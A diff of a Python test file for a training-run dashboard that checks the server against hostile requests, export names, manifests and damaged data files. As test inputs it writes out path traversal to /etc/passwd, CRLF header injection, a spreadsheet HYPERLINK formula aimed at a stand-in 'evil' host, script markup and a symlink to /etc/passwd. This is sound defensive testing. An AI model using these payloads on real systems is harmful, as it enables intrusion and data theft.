@@ -2,10 +2,12 @@ import copy
 import csv
 import io
 import json
+import logging
 import os
+import platform
 import shutil
 import time
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from pathlib import Path
 from typing import Any, Final
 from urllib.parse import quote, urlencode
@@ -13,7 +15,7 @@ from urllib.parse import quote, urlencode
 import numpy as np
 import pyarrow as pa
 import pytest
-from dashboard_client import Answer, Callback, Send, Visit, callbacks, parts, through
+from dashboard_client import Answer, Callback, Send, Visit, callbacks, through
 from dashboard_watch import leaks, opened
 from runs_to_show import fill, write
 
@@ -22,7 +24,7 @@ from entropylens.store.compact import compact
 from entropylens.store.layout import Layout
 from entropylens.store.segments import write_segment
 from entropylens.store.writer import RunWriter
-from entropylens_dashboard import create_server
+from entropylens_dashboard import create_server, library
 
 pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")
 
@@ -58,6 +60,16 @@ HOSTILE: Final[dict[str, Any]] = {
     "foreign keys": {"../x": {"../y": [1]}, "page": "vitals", "runs": ["a"]},
     "deep nesting": json.loads("[" * 200 + "]" * 200),
 }
+BELOW: Final = (
+    "a path",
+    "a megabyte",
+    "half a character",
+    "more digits than a float has",
+    "null",
+    "mappings",
+    "deep nesting",
+)
+"""What is put below the top of a value."""
 PAGES: Final = {
     "vitals": "/run/{0}?smooth=0.5&by=step&within=5~60&more=loss/mean",
     "compare": "/compare?runs={0},{1}&names=loss/mean&baseline={1}",
@@ -73,13 +85,31 @@ OWN: Final = {
 """How the names of the callbacks of each page begin."""
 
 
+@pytest.fixture(autouse=True)
+def _quiet(caplog: pytest.LogCaptureFixture) -> None:
+    """Thousands of faults with their places would hide what a failing test says."""
+    caplog.set_level(logging.CRITICAL + 1, "entropylens")
+
+
 class Desk:
     """A server over a folder, and pages that were opened on it."""
 
     def __init__(self, folder: Path) -> None:
         self.folder = folder
-        self.send: Send = through(create_server(folder))
+        self.libraries: list[library.Library] = []
+        with pytest.MonkeyPatch.context() as patch:
+            patch.setattr("entropylens_dashboard.app.Library", self._library)
+            self.send: Send = through(create_server(folder))
         self.known = callbacks(self.send)
+
+    def _library(self, folder: Path) -> library.Library:
+        self.libraries.append(library.Library(folder))
+        return self.libraries[-1]
+
+    def look_again(self) -> None:
+        """Have the folder looked through at the next request."""
+        for one in self.libraries:
+            one._good_until = 0.0
 
     def visit(self, path: str) -> Visit:
         visit = Visit(self.send, self.known)
@@ -90,19 +120,22 @@ class Desk:
         rows = self.visit("/").values["runs.rowData"]
         return {row["folder"]: row["id"] for row in rows}
 
-    def every_page(self, run_id: str) -> dict[str, Answer]:
+    def every_page(self, run_id: str, pages: Sequence[str] = tuple(PAGES)) -> dict[str, Answer]:
         """What the pages of a run, and those of all, answer."""
         answers: dict[str, Answer] = {}
-        places = (f"/run/{run_id}", f"/run/{run_id}/series", f"/compare?runs={run_id}", "/")
-        for page, path in zip(("vitals", "series", "compare", "runs"), places, strict=True):
+        places = {"vitals": f"/run/{run_id}", "series": f"/run/{run_id}/series", "runs": "/"}
+        places["compare"] = f"/compare?runs={run_id},{self.ids().get('plain', '')}"
+        for page in pages:
+            path = places[page]
             visit = Visit(self.send, self.known)
             answers[f"{page} opens"] = visit.open(path)
+            if page != "runs" and "spec.data" not in visit.values:
+                continue  # it says why the run cannot be shown, and asks for nothing
             if page != "runs":
                 answers[f"{page} draws"] = visit.draw()
                 answers[f"{page} beats"] = visit.beat()
-            for name, callback in self.known.items():
+            for name in self.known:
                 if name.startswith(OWN[page]) and not name.startswith(("page", "panels", '{"gr')):
-                    assert callback.inputs
                     answers[f"{page} {name}"] = visit.ask(name)
         return answers
 
@@ -140,7 +173,8 @@ def replaced(visit: Visit, callback: Callback) -> Iterator[tuple[str, dict[str, 
     """What a callback is sent, with one thing of it replaced by something hostile."""
     for at, (id, prop) in enumerate(callback.arguments):
         for way in spots(visit.value(id, prop)):
-            for what, hostile in HOSTILE.items():
+            for what in BELOW if way else HOSTILE:
+                hostile = HOSTILE[what]
                 body = callback.body(visit.value, visit.graphs)
                 place = (body["inputs"] + body["state"])[at]
                 place["value"] = put(place["value"], way, hostile)
@@ -211,8 +245,8 @@ def ledgers(ledger: dict[str, Any], other: dict[str, Any]) -> Iterator[tuple[str
     yield "many lines", {**ledger, "lines": {panel: [line] * 10_000}}
     yield "no last steps", {**ledger, "last": {}}
     yield "last steps of no kind", {**ledger, "last": dict.fromkeys(ledger["last"], "x")}
-    yield "counts of no kind", {**ledger, "counts": dict.fromkeys(ledger["counts"], [None])}
-    yield "memory of no kind", {**ledger, "memory": dict.fromkeys(ledger["last"], ["x", {}])}
+    yield "counts of no kind", {**ledger, "counts": {key: [None] for key in ledger["counts"]}}
+    yield "memory of no kind", {**ledger, "memory": {key: ["x", {}] for key in ledger["last"]}}
     yield "no memory", {**ledger, "memory": {}}
     for name in ledger:
         yield f"no {name}", {key: value for key, value in ledger.items() if key != name}
@@ -242,31 +276,38 @@ def test_a_ledger_that_was_altered_is_no_harm(
     assert "ledger" in visit.beat().outputs()
 
 
-@pytest.mark.parametrize(
-    "body",
-    [
-        b"",
-        b"[]",
-        b"7",
-        b"{}",
-        b"null",
-        b"{" * 100_000,
-        b"[" * 100_000,
-        b"\xff\xfe",
-        b'{"output": "../../etc/passwd.data"}',
-        b'{"output": {"a": 1}, "outputs": [], "inputs": 3}',
-        b'{"output": "page.children", "inputs": [], "outputs": [], "changedPropIds": []}',
-        b'{"output": "page.children", "inputs": [{"id": "__class__"}], "changedPropIds": ["a"]}',
-        b'{"output": "page.children", "outputs": 7, "inputs": [7], "changedPropIds": [7]}',
-        b'{"output": "' + b"x" * 10**6 + b'"}',
-    ],
+BODIES: Final = (
+    b"",
+    b"[]",
+    b"7",
+    b"{}",
+    b"null",
+    b"{" * 100_000,
+    b"[" * 100_000,
+    b"\xff\xfe",
+    b'{"output": "../../etc/passwd.data"}',
+    b'{"output": {"a": 1}, "outputs": [], "inputs": 3}',
+    b'{"output": "page.children", "inputs": [], "outputs": [], "changedPropIds": []}',
+    b'{"output": "page.children", "inputs": [{"id": "__class__"}], "changedPropIds": ["a"]}',
+    b'{"output": "page.children", "outputs": 7, "inputs": [7], "changedPropIds": [7]}',
+    b'{"output": "' + b"x" * 10**6 + b'"}',
 )
-def test_what_is_no_request_of_a_page_tells_nothing(desk: Desk, body: bytes) -> None:
-    with opened(desk.folder) as strange:
-        answer = desk.send("/_dash-update-component", body)
-    assert 400 <= answer.status <= 500
-    assert leaks(answer, desk.folder) == []
-    assert strange == []
+
+
+def test_the_first_page_does_not_tell_what_it_runs_on(desk: Desk) -> None:
+    for path in ("/", "/_dash-layout", "/_dash-dependencies"):
+        answer = desk.send(path, None)
+        assert platform.python_version() not in answer.text, path
+        assert str(desk.folder.parent) not in answer.text, path
+
+
+def test_what_is_no_request_of_a_page_tells_nothing(desk: Desk) -> None:
+    for body in BODIES:
+        with opened(desk.folder) as strange:
+            answer = desk.send("/_dash-update-component", body)
+        assert 400 <= answer.status <= 500, body[:50]
+        assert leaks(answer, desk.folder) == [], body[:50]
+        assert strange == []
     assert desk.send("/", None).status == 200
 
 
@@ -296,20 +337,21 @@ ADDRESSES: Final = (
 )
 
 
-@pytest.mark.parametrize("at", range(len(ADDRESSES)))
-def test_an_address_leads_nowhere_but_to_the_runs(desk: Desk, tmp_path: Path, at: int) -> None:
-    path = ADDRESSES[at].replace("{0}", desk.ids()["run"])
+def test_an_address_leads_nowhere_but_to_the_runs(desk: Desk, tmp_path: Path) -> None:
+    run_id = desk.ids()["run"]
     outside = json.loads((tmp_path / "outside" / "run.json").read_text())["run_id"]
-    visit = Visit(desk.send, desk.known)
+    found: list[str] = []
     with opened(desk.folder) as strange:
-        answers = {"opens": visit.open(path)}
-        if "spec.data" in visit.values:
-            answers |= {"draws": visit.draw(), "beats": visit.beat()}
-        answers["outside"] = visit.open(f"/run/{outside[:12]}")
-    found = [one for what, answer in answers.items() for one in faults(desk, what, answer)]
-    assert not found, summary(found)
+        for address in (*ADDRESSES, f"/run/{outside}", f"/run/{outside[:12]}"):
+            visit = Visit(desk.send, desk.known)
+            answers = {"opens": visit.open(address.replace("{0}", run_id))}
+            if "spec.data" in visit.values:
+                answers |= {"draws": visit.draw(), "beats": visit.beat()}
+            for what, answer in answers.items():
+                found += faults(desk, f"{address[:60]} {what}", answer)
     assert strange == []
-    assert "Not here" in answers["outside"].text
+    assert not found, summary(found)
+    assert "Not here" in visit.open(f"/run/{outside[:12]}").text
 
 
 # -- what is taken along --------------------------------------------------------------------------
@@ -358,46 +400,53 @@ def test_an_export_takes_nothing_on_trust(desk: Desk, kind: str) -> None:
     assert not found, summary(found)
 
 
-@pytest.mark.parametrize(
-    "path",
-    [
-        "figure.exe",
-        "figure.csv%0d%0aSet-Cookie:a=b",
-        "figure.csv%0aX-Evil:1",
-        "figure.../../../etc/passwd",
-        "figure.csv%00.html",
-        "../export/figure.py",
-        "figure.",
-        "figure.%22;x=%22",
-    ],
+NAMES: Final = (
+    "figure.exe",
+    "figure.csv%0d%0aSet-Cookie:a=b",
+    "figure.csv%0aX-Evil:1",
+    "figure.../../../etc/passwd",
+    "figure.csv%00.html",
+    "../export/figure.py",
+    "figure.",
+    "figure.%22;x=%22",
 )
-def test_an_export_s_name_is_ours(desk: Desk, path: str) -> None:
+
+
+def test_an_export_s_name_is_ours(desk: Desk) -> None:
     query = urlencode({"page": "vitals", "runs": desk.ids()["run"], "panel": "loss"})
-    answer = desk.send(f"/export/{path}?{query}&x=%0d%0aSet-Cookie:%20a=b", None)
-    assert answer.status in (404, 308)
-    assert "Content-Disposition" not in answer.headers
-    assert not {"Set-Cookie", "X-Evil"} & set(answer.headers)
-    assert leaks(answer, desk.folder) == []
+    for name in NAMES:
+        answer = desk.send(f"/export/{name}?{query}&x=%0d%0aSet-Cookie:%20a=b", None)
+        assert answer.status in (200, 404), name
+        assert "Content-Disposition" not in answer.headers, name
+        assert answer.status == 404 or "_dash-renderer" in answer.text, name  # shows no run
+        assert not {"Set-Cookie", "X-Evil"} & set(answer.headers), name
+        assert answer.status == 200 or leaks(answer, desk.folder) == [], name
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\t\t=", "＝", "＋"])
-def test_no_name_is_a_formula_in_a_spreadsheet(folder: Path, start: str) -> None:
-    name = f'{start}HYPERLINK("http://evil/"&A1),\'x\',"\r\n=1+1'
-    writer = RunWriter(folder / "run", name=name, flush_seconds=0.05)
-    write(writer, name, [1, 2], [-1.0, 2.0], module=name)
-    write(writer, name, [1, 2], [-1.0, 2.0])
-    writer.close()
-    desk = Desk(folder)
-    query = {"page": "series", "runs": desk.ids()["run"], "panel": name}
-    query["lines"] = "\n".join((name, name, "train"))
-    answer = desk.send(f"/export/figure.csv?{urlencode(query)}", None)
-    assert answer.status == 200
-    assert answer.headers["Content-Disposition"] == 'attachment; filename="figure.csv"'
-    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
-    assert len(rows) == 3
-    for row in rows[1:]:
-        assert [cell[:1] for cell in row[:3]] == ["'"] * 3, row
-        assert row[-1] in ("-1.0", "2.0")
+FORMULAS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", " =", "＝", "＋", "－", "＠")
+
+
+@pytest.mark.parametrize("page", ["compare", "series"])
+def test_no_name_is_a_formula_in_a_spreadsheet(folder: Path, page: str) -> None:
+    starts = [one for one in FORMULAS if page == "compare" or one not in "\t\n"]
+    for at, start in enumerate(starts):
+        name = f"{start}HYPERLINK(\"http://evil/\"&A1);'x'"
+        writer = RunWriter(folder / str(at), name=f"{name}\r\n=1+1,2", flush_seconds=0.01)
+        write(writer, name, [1, 2], [-1.0, 2.0], module=name if page == "series" else "")
+        writer.close()
+    desk, found = Desk(folder), []
+    ids = desk.ids()
+    for at, start in enumerate(starts):
+        name = f"{start}HYPERLINK(\"http://evil/\"&A1);'x'"
+        query = {"page": page, "runs": ids[str(at)], "panel": name, "names": name}
+        query["lines"] = f"{name}\n{name}\ntrain"
+        answer = desk.send(f"/export/figure.csv?{urlencode(query)}", None)
+        assert answer.status == 200, start
+        assert answer.headers["Content-Disposition"] == 'attachment; filename="figure.csv"'
+        rows = list(csv.reader(io.StringIO(answer.text, newline="")))
+        assert [row[-1] for row in rows[1:]] == ["-1.0", "2.0"]
+        found += [cell for row in rows[1:] for cell in row[:3] if cell[:1] in (*FORMULAS, " ")]
+    assert found == []
 
 
 def test_a_figure_taken_along_runs_no_name(folder: Path) -> None:
@@ -411,3 +460,339 @@ def test_a_figure_taken_along_runs_no_name(folder: Path) -> None:
     assert answer.status == 200
     assert "<script>alert(1)" not in answer.text
     assert MARKUP not in answer.text
+
+
+# -- what a log holds -----------------------------------------------------------------------------
+
+
+def change(folder: Path, file: str, **facts: Any) -> None:
+    """Of a run's manifest or status."""
+    path = folder / "evil" / file
+    path.write_text(json.dumps({**json.loads(path.read_text()), **facts}))
+
+
+def all_well(desk: Desk, folder: str, pages: Sequence[str] = tuple(PAGES)) -> dict[str, Answer]:
+    """The pages of a run and the list of all answer; nothing of the machine is told."""
+    found: list[str] = []
+    with opened(desk.folder) as strange:
+        ids = desk.ids()
+        assert "plain" in ids
+        answers = desk.every_page(ids[folder], pages)
+    for what, answer in answers.items():
+        found += faults(desk, what, answer)
+    assert set(strange) <= {"/etc/passwd"}  # behind a link of the run itself
+    assert not found, summary(found)
+    return answers
+
+
+@pytest.fixture
+def evil(folder: Path, make: Any) -> RunWriter:
+    """A run that is made hostile, beside a plain one; their names are in the log of each."""
+    make("plain", steps=30).close()
+    writer: RunWriter = make("evil", steps=30)
+    return writer
+
+
+WILD: Final[dict[str, Any]] = {
+    "markup": MARKUP,
+    "control characters": "a\0b\x1b[31m\r\n\t\x7f",
+    "half a character": "a\ud800b\udfff",
+    "the other direction": "\u202eevil\u202c\u2066\u200f",
+    "a megabyte": "x" * 10**6,
+    "no text": "",
+    "a number": 7,
+    "a float": 1.5,
+    "too large": 10**400,
+    "NaN": float("nan"),
+    "infinity": float("inf"),
+    "a list": [1, [2]],
+    "texts": ["a", MARKUP, "\ud800"],
+    "a mapping": {"a": {"b": MARKUP}},
+    "null": None,
+    "true": True,
+    "many": ["tag"] * 10_000,
+    "deep": json.loads('{"a":' * 200 + "1" + "}" * 200),
+}
+
+
+ODD: Final = (
+    "markup",
+    "half a character",
+    "a megabyte",
+    "too large",
+    "NaN",
+    "a list",
+    "texts",
+    "a mapping",
+    "null",
+    "many",
+    "deep",
+)
+
+
+@pytest.mark.parametrize("what", ODD)
+def test_a_manifest_may_hold_anything(folder: Path, evil: RunWriter, what: str) -> None:
+    evil.close()
+    wild, desk, found = WILD[what], Desk(folder), []
+    plain = (folder / "evil/run.json").read_text()
+    facts: list[dict[str, Any]] = [
+        {"name": wild, "created": wild, "host": wild, "commit": wild, "argv": wild},
+        {"config": wild},
+        {"config": {"user": wild, "model": wild, "optimizer": wild, "preset": wild}},
+        {"config": {"user": {"tags": wild, "seed": wild, str(wild)[:1000]: wild}}},
+        {"attempts": wild},
+    ]
+    for one in facts:
+        (folder / "evil/run.json").write_text(plain)
+        change(folder, "run.json", **one)
+        desk.look_again()
+        try:
+            all_well(desk, "evil", ("vitals", "compare", "runs"))
+        except AssertionError as error:
+            found.append(f"{list(one)}: {str(error)[:500]}")
+    assert not found, "\n".join(found)
+
+
+STATUS: Final = ("step", "state", "reason", "rows", "faults", "lost_rows", "attempt", "heartbeat")
+
+
+@pytest.mark.parametrize("what", [one for one in ODD if one not in ("texts", "many", "deep")])
+def test_a_status_may_hold_anything(folder: Path, evil: RunWriter, what: str) -> None:
+    evil.close("failed", "gone")
+    desk, found = Desk(folder), []
+    plain = (folder / "evil/status/rank-000.json").read_text()
+    wild: Any = WILD[what]
+    for one in [*({name: wild} for name in STATUS), {"rows": {"metrics": wild, "events": wild}}]:
+        (folder / "evil/status/rank-000.json").write_text(plain)
+        change(folder, "status/rank-000.json", **one)
+        desk.look_again()
+        try:
+            all_well(desk, "evil", ("vitals", "runs"))
+        except AssertionError as error:
+            found.append(f"{list(one)}: {str(error)[:500]}")
+    assert not found, "\n".join(found)
+
+
+TEXTS: Final = {
+    name: text for name, text in WILD.items() if isinstance(text, str) and "half" not in name
+}
+
+
+@pytest.mark.parametrize("what", TEXTS)
+def test_names_and_events_are_data(folder: Path, evil: RunWriter, what: str) -> None:
+    text = TEXTS[what]
+    write(evil, f"user/{text}", [1, 2], [1.0, 1.0])
+    write(evil, "conditioning/kappa", [1, 2], [1.0, 2.0], module=text, phase=text)
+    for severity in ("error", text):
+        for _ in range(2):
+            evil.event(f"alarm/{text}", text, step=5, severity=severity, rule=text, mode=text)
+    evil.close("failed", text)
+    desk = Desk(folder)
+    answers = all_well(desk, "evil")
+    listed = answers["series series.rowData series-count.children"].outputs()["series"]["rowData"]
+    assert len(listed) == 14
+    run_id = desk.ids()["evil"]
+    line = "\n".join((f"user/{text}", "", "train"))
+    visit = desk.visit(f"/run/{run_id}/series")
+    drawn = visit.draw(view__data={"lines": line})
+    assert drawn.status == 200
+    assert leaks(drawn, folder) == []
+    if "\n" not in text and "\t" not in text:
+        assert visit.graphs == [f"user/{text}"]
+    for answer in (*answers.values(), drawn):
+        # Markup in JSON is data; nothing of ours puts it into a page but as a component's text.
+        assert answer.headers["Content-Type"].startswith("application/json")
+        assert answer.headers["X-Content-Type-Options"] == "nosniff"
+
+
+BROKEN: Final = b"user/\xff\xfe\xed\xa0\x80"
+NO_TEXT: Final = pa.StringArray.from_buffers(
+    1, pa.py_buffer(np.array([0, len(BROKEN)], np.int32).tobytes()), pa.py_buffer(BROKEN)
+)
+LOSS: Final = pa.array(["loss/mean"])
+FAR: Final = pa.array([2**62]).cast(pa.timestamp("us", tz="UTC"))
+ROWS: Final[dict[str, tuple[str, dict[str, Any]]]] = {
+    "a name that is no text": ("metrics", {"name": NO_TEXT}),
+    "a module that is no text": ("metrics", {"name": LOSS, "module": NO_TEXT}),
+    "an event that is no text": ("events", {"kind": NO_TEXT, "message": NO_TEXT}),
+    "a severity that is no text": ("events", {"severity": NO_TEXT, "rule": NO_TEXT}),
+    "an infinite value": ("metrics", {"name": LOSS, "value": pa.array([np.inf])}),
+    "the least step": ("metrics", {"name": LOSS, "step": pa.array([-(2**63)])}),
+    "the largest step": ("metrics", {"name": LOSS, "step": pa.array([2**63 - 1])}),
+    "a time far off": ("metrics", {"name": LOSS, "time": FAR}),
+    "tokens below none": ("metrics", {"name": pa.array(["tokens/seen"]), "value": -1e308}),
+    "an event without a kind": ("events", {"kind": None, "step": pa.array([2**62])}),
+    "an event at no step": ("events", {"step": pa.nulls(1, pa.int64())}),
+    "an event at no time": ("events", {"time": pa.nulls(1, FAR.type)}),
+    "an event far off": ("events", {"time": FAR}),
+    "evidence that is none": ("events", {"kind": pa.array(["alarm"]), "evidence": "{"}),
+}
+
+
+@pytest.mark.parametrize("what", ROWS)
+def test_a_row_may_hold_anything(folder: Path, evil: RunWriter, what: str) -> None:
+    evil.close()
+    table, columns = ROWS[what]
+    add(folder / "evil", table, **columns)
+    all_well(Desk(folder), "evil")
+
+
+def add(run: Path, table: str, **columns: Any) -> Path:
+    """A segment of one row, after all others."""
+    layout = Layout(run)
+    schema = SCHEMAS[table]
+    plain: dict[str, Any] = {"rank": 0, "attempt": 0, "phase": "train", "step": 40, "value": 1.0}
+    plain |= {"module": "", "message": "it said", "time": 1_700_000_000_000_000}
+    plain |= {name: cell for name, cell in columns.items() if not isinstance(cell, pa.Array)}
+    cells = [
+        columns[field.name]
+        if isinstance(columns.get(field.name), pa.Array)
+        else pa.array([plain.get(field.name)], field.type)
+        for field in schema
+    ]
+    path = layout.segment(table, 0, layout.next_sequence(table, 0))
+    facts = {"run_id": json.loads(layout.manifest.read_text())["run_id"], "table": table}
+    rows = pa.table(cells, schema=schema)
+    first = 10_000 + layout.next_sequence(table, 0)
+    write_segment(path, rows, **facts, rank=0, first_row=first, end_row=first + 1)
+    return path
+
+
+# -- damage ---------------------------------------------------------------------------------------
+
+
+def cut(path: Path) -> None:
+    os.truncate(path, path.stat().st_size // 2)
+
+
+def zeroed(path: Path) -> None:
+    path.write_bytes(bytes(path.stat().st_size))
+
+
+def emptied(path: Path) -> None:
+    os.truncate(path, 0)
+
+
+def hole(path: Path) -> None:
+    content = bytearray(path.read_bytes())
+    content[100 : len(content) // 2] = bytes(len(content) // 2 - 100)
+    path.write_bytes(content)
+
+
+def flipped(path: Path) -> None:
+    content = np.frombuffer(path.read_bytes(), np.uint8).copy()
+    places = np.random.default_rng(0).integers(4, len(content) - 8, 40)
+    content[places] ^= 1 << (places % 8).astype(np.uint8)
+    path.write_bytes(content.tobytes())
+
+
+def flipped_at_the_end(path: Path) -> None:
+    content = np.frombuffer(path.read_bytes(), np.uint8).copy()
+    places = len(content) - 9 - np.random.default_rng(1).integers(0, 600, 20)
+    content[places] ^= 1 << (places % 8).astype(np.uint8)
+    path.write_bytes(content.tobytes())
+
+
+def foreign(path: Path) -> None:
+    shutil.copy(path.parents[2] / "plain" / path.parent.name / "000-000000.parquet", path)
+
+
+def a_folder(path: Path) -> None:
+    path.unlink()
+    path.mkdir()
+    (path / "x").write_text("x")
+
+
+def a_link(path: Path) -> None:
+    path.unlink()
+    path.symlink_to("/etc/passwd")
+
+
+def unreadable_lengths(path: Path) -> None:
+    content = path.read_bytes()
+    path.write_bytes(content[:-8] + b"\xff\xff\xff\x7f" + content[-4:])
+
+
+DAMAGE: Final = (
+    cut,
+    zeroed,
+    emptied,
+    hole,
+    flipped,
+    flipped_at_the_end,
+    foreign,
+    a_folder,
+    a_link,
+    unreadable_lengths,
+)
+
+
+def in_segments(folder: Path, parts: int = 4) -> Path:
+    """A run of 100 steps in several segments, of metrics and of events, and a tail."""
+    writer = RunWriter(folder / "evil", flush_seconds=0.02, seal_seconds=1000, seal_rows=1)
+    for part in range(parts):
+        first = 1 + part * 100 // parts
+        fill(writer, first, (part + 1) * 100 // parts)
+        writer.event("note", f"part {part}", step=first)
+        writer.flush()
+        time.sleep(0.03)
+    writer.close()
+    return folder / "evil"
+
+
+def steps_drawn(desk: Desk, panel: str = "loss") -> list[int]:
+    visit = desk.visit(f"/run/{desk.ids()['evil']}")
+    assert visit.draw().status == 200
+    traces = visit.figures[panel]["data"]
+    return [] if not traces else list(traces[0]["x"])
+
+
+def test_of_damaged_segments_the_rest_is_shown(folder: Path, make: Any) -> None:
+    make("plain", steps=30).close()
+    run = in_segments(folder, parts=2 + len(DAMAGE))
+    for table in ("metrics", "events"):
+        segments = Layout(run).segments(table)
+        assert len(segments) >= 2 + len(DAMAGE)
+        for damage, path in zip(DAMAGE, segments[1:], strict=False):
+            damage(path)
+    desk = Desk(folder)
+    answers = all_well(desk, "evil")
+    assert any(f"part {1 + len(DAMAGE)}".encode() in answer.body for answer in answers.values())
+    steps = steps_drawn(desk)
+    assert {1, 100} <= set(steps) < set(range(1, 101))
+
+
+@pytest.mark.parametrize("damage", [cut, zeroed, flipped, foreign, a_folder])
+def test_a_damaged_pyramid_or_merge_hides_nothing_else(
+    folder: Path, make: Any, damage: Any
+) -> None:
+    make("plain", steps=30).close()
+    compact(folder / "plain")
+    run = in_segments(folder)
+    compact(run)
+    whole = steps_drawn(Desk(folder))
+    for path in sorted((run / "pyramid").glob("*.parquet")):
+        if damage is foreign:
+            shutil.copy(folder / "plain" / "pyramid" / path.name, path)
+        else:
+            damage(path)
+    desk = Desk(folder)
+    all_well(desk, "evil", ("vitals", "series"))
+    assert steps_drawn(desk) == whole == list(range(1, 101))
+
+
+@pytest.mark.parametrize("damage", [cut, zeroed, flipped, a_folder])
+def test_a_damaged_tail_hides_nothing_that_is_sealed(folder: Path, make: Any, damage: Any) -> None:
+    make("plain", steps=30).close()
+    run = in_segments(folder)
+    writer = RunWriter(run, resume_step=100, flush_seconds=0.02, seal_seconds=1000)
+    fill(writer, 101, 150)
+    writer.flush()
+    for table in ("metrics", "events"):
+        (path,) = Layout(run).tails(table).values()
+        damage(path)
+    desk = Desk(folder)
+    all_well(desk, "evil", ("vitals", "runs"))
+    assert set(range(1, 101)) <= set(steps_drawn(desk))
+    shutil.rmtree(run)  # nobody seals what was damaged
+    writer.close()
